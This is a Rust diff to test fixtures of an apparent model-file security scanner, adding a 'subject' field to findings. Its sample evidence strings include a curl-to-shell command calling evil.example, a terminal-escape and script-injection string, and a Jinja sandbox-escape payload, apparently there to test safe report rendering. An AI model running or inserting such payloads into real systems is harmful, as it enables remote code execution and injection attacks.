@@ -21,17 +21,20 @@ pub(super) fn deny() -> Report {
     let findings = vec![
         Finding {
             count: 3,
+            subject: None,
             evidence: Some("os.system('curl evil.example | sh')".into()),
             ..finding("code-execution", Severity::Critical, at("model.pt", &["archive/data.pkl"], 498))
         },
         Finding {
             message: format!("looks up {nasty}"),
+            subject: None,
             evidence: Some("\u{1b}]0;owned\u{7} </pre><script>alert(2)</script>".into()),
             confidence: Confidence::Medium,
             ..finding("unlisted-callable", Severity::High, at(nasty, &["a\r\nb"], 7))
         },
         Finding {
             message: "the template reaches [past its sandbox](https://evil.example)".into(),
+            subject: None,
             evidence: Some("{{ cycler.__init__.__globals__ }}".into()),
             location: Location { line: Some(12), ..Location::file("chat 100%.jinja") },
             ..finding("template-escape", Severity::High, Location::file(""))
@@ -120,6 +123,7 @@ fn finding(rule: &str, severity: Severity, location: Location) -> Finding {
         persona: Persona::Everyone,
         location,
         message: "loading runs a shell command".into(),
+        subject: None,
         evidence: None,
         next_step: "Do not load this file. Ask its publisher for safetensors, or convert it where nothing can be lost."
             .into(),
@@ -136,7 +140,7 @@ fn exception(rule: &str, path: &str, reason: &str, until: &str) -> Exception {
     Exception {
         rule: rule.into(),
         path: path.into(),
-        contains: None,
+        subject: None,
         reason: reason.into(),
         until: until.parse().unwrap(),
     }
